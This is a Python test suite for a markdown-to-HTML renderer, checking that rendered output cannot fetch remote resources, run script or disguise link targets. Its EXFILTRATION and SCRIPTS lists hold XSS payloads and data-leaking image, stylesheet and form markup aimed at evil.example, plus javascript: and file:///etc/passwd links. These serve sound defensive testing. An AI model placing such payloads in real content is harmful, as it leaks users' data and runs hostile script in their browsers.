"""Markdown becomes HTML that can fetch nothing, run nothing and pretend nothing."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sourcebook.rendering import MOST, to_html

TAGS = {
    *("a", "p", "em", "strong", "s", "code", "pre", "blockquote", "ul", "ol", "li", "hr", "br"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {"href", "rel", "class", "start", "style"}

EXFILTRATION = [
    "![x](https://evil.example/?d=SECRET)",
    "![x][1]\n\n[1]: https://evil.example/?d=SECRET",
    "[![x](https://evil.example/a.png)](https://evil.example/?d=SECRET)",
    "<img src=https://evil.example/?d=SECRET>",
    '<IMG SRC="https://evil.example/">',
    "<picture><source srcset='https://evil.example/'></picture>",
    "<svg><image href='https://evil.example/'/></svg>",
    "<style>@import 'https://evil.example/';</style>",
    "<link rel=stylesheet href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<iframe src=https://evil.example></iframe>",
    "<video poster=https://evil.example></video><audio src=https://evil.example></audio>",
    "<div style='background:url(https://evil.example/)'>x</div>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=q></form>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    '![a](https://evil.example/a "b" )![](//evil.example)',
    "&lt;img src=https://evil.example&gt; &#60;img src=x onerror=alert(1)&#62;",
    "```html\n<img src=https://evil.example onerror=alert(1)>\n```",
    '```"onmouseover=alert(1)\nx\n```',
    "| a |\n|---|\n| ![x](https://evil.example) |",
]
SCRIPTS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](\x01javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x](https://good.example@evil.example/)",
    "[x](https://evil.example\\@good.example/)",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example '\"><script>alert(1)</script>')",
    "[x](//evil.example)",
    "[x](/api/v1/keys)",
    '"><script>alert(1)</script>',
    "<details open ontoggle=alert(1)>",
    "`<script>alert(1)</script>`",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "{{constructor.constructor('alert(1)')()}}",
]


class Strict(HTMLParser):
    """Fails on whatever is not on the short list of what may come out."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.links: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in ATTRIBUTES, (tag, name)
            if name == "href":
                assert str(value).startswith(("http://", "https://", "mailto:")), value
                self.links.append(str(value))
            if name == "style":
                assert str(value) in ("text-align:left", "text-align:right", "text-align:center")
        if tag == "a":
            assert dict(attrs)["rel"] == "noopener noreferrer nofollow ugc"

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)


def checked(markdown: str) -> Strict:
    html = to_html(markdown)
    assert html is not None
    parser = Strict()
    parser.feed(html)
    parser.close()
    return parser


@pytest.mark.parametrize("markdown", [*EXFILTRATION, *SCRIPTS])
def test_no_known_trick_gets_through(markdown: str) -> None:
    checked(markdown)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from([*EXFILTRATION, *SCRIPTS, "\n", "[", "](", ")", "<", ">", "`", "|", "\\"]), max_size=8))
def test_no_mixture_of_them_does(pieces: list[str]) -> None:
    checked("".join(pieces))


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_no_text_does(text: str) -> None:
    checked(text)


def test_plain_markdown_is_rendered() -> None:
    html = to_html(
        "# Tides\n\nHigh *water* at **ten** [1].\n\n- a\n- b\n\n| x | y |\n|---|--:|\n| 1 | 2 |\n\n```py\na < b\n```"
    )
    assert html is not None
    for part in ("<h1>Tides</h1>", "<em>water</em>", "[1]", "<li>a</li>", "<td", '<code class="language-py">a &lt; b'):
        assert part in html


def test_a_link_shows_its_host() -> None:
    found = checked("See [the bank](https://evil.example/login) or <https://a.example/>, [write](mailto:a@b.example).")
    assert found.links == ["https://evil.example/login", "https://a.example/", "mailto:a@b.example"]
    assert "the bank (evil.example)" in found.text
    assert "https://a.example/, " in found.text
    assert "write (a@b.example)" in found.text


def test_a_citation_cannot_be_made_a_link_of_the_models() -> None:
    found = checked("It closes at ten [1].\n\n[1]: https://evil.example/?d=SECRET")
    assert found.links == []
    assert "It closes at ten [1]." in found.text


def test_what_people_do_not_see_is_taken_out() -> None:
    html = to_html("a\u202eb\u200bc\U000e0041d\u00ade")
    assert html == "<p>abcde</p>\n"


def test_a_text_that_takes_too_long_is_not_rendered() -> None:
    assert to_html("x" * (MOST + 1)) is None
